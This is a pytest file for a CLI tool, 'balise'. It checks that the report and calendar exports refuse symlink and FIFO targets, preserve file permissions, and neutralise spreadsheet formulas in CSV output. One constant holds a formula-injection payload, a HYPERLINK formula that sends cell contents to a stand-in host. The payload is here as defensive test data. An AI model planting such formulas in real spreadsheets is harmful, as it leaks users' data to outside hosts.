"""What `balise report` and `balise calendar export` write, and where: never over a link or a
device, and never a formula a spreadsheet would run (issue 17, items 9 and 10)."""

from __future__ import annotations

import csv
import io
import os
import stat
from datetime import UTC, datetime
from pathlib import Path

import pytest

from balise.db import session_scope
from balise.models import Organization
from tests.conftest import run_cli
from tests.helpers import NO_QUIET_HOURS, make_org
from tests.reports.builders import draft, mark_published

PERIOD = ["--from", "2026-04-01", "--to", "2027-03-31"]
FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1;"Voir")'


def _usual_mode() -> int:
    current = os.umask(0)
    os.umask(current)
    return 0o666 & ~current


@pytest.mark.parametrize("command", [["report", *PERIOD], ["calendar", "export"]])
def test_a_link_or_a_device_given_as_output_is_refused_and_left_as_it_was(
    env: dict[str, str], tmp_path: Path, command: list[str]
) -> None:
    make_org()
    precious = tmp_path / "precieux.txt"
    precious.write_text("à garder")
    link, pipe = tmp_path / "lien.html", tmp_path / "tube"
    link.symlink_to(precious)
    os.mkfifo(pipe)
    for target in (link, pipe):
        result = run_cli([*command, "--output", str(target)], env)
        assert result.returncode == 2 and "n'est pas un fichier ordinaire" in result.stderr, result.stderr
        assert "Traceback" not in result.stderr
    assert link.is_symlink() and stat.S_ISFIFO(pipe.lstat().st_mode)
    assert precious.read_text() == "à garder"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temporary left


def test_an_output_elsewhere_keeps_the_usual_permissions(env: dict[str, str], tmp_path: Path) -> None:
    make_org()
    kept = tmp_path / "partage.html"
    kept.write_text("ancien rapport")
    kept.chmod(0o640)
    new = tmp_path / "calendrier.ics"
    assert run_cli(["report", *PERIOD, "--output", str(kept)], env).returncode == 0
    assert run_cli(["calendar", "export", "--output", str(new)], env).returncode == 0
    assert "<html" in kept.read_text() and stat.S_IMODE(kept.stat().st_mode) == 0o640
    assert stat.S_IMODE(new.stat().st_mode) == _usual_mode()


def test_a_formula_in_a_policy_label_reaches_the_csv_as_text(env: dict[str, str], tmp_path: Path) -> None:
    org, author, _ = make_org()
    with session_scope() as session:
        organization = session.get(Organization, org)
        assert organization
        organization.policy_override = NO_QUIET_HOURS + (
            f'[topics.atelier]\nlabel = \'{FORMULA}\'\nclause = "Règle de l\'organisme"\nterms = ["atelier"]\n'
        )
    mark_published(draft(org, author, topic="atelier"), datetime(2026, 6, 2, 15, tzinfo=UTC))

    result = run_cli(["report", *PERIOD, "-o", str(tmp_path / "r.html"), "--csv", str(tmp_path / "r.csv")], env)

    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO((tmp_path / "r.csv").read_text("utf-8-sig")), delimiter=";"))
    elements = {r["element"] for r in rows if r["section"] == "publications_par_mois"}
    assert "'" + FORMULA in elements
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
